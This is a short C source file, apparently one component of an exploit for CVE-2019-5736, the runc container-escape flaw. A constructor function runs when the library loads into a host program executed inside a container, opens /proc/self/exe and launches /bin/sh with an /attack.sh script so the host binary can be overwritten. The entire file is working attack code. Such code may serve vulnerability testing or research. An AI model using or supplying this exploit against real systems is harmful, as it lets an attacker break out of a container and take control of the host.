/* Loaded into whatever program of the host is executed inside of the container (CVE-2019-5736): keeps that program's file
   open, becomes a shell, and lets it write to the file. */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    if (open("/proc/self/exe", O_RDONLY) >= 0)
        execl("/bin/sh", "sh", "/attack.sh", (char *)0);
    _exit(99);
}
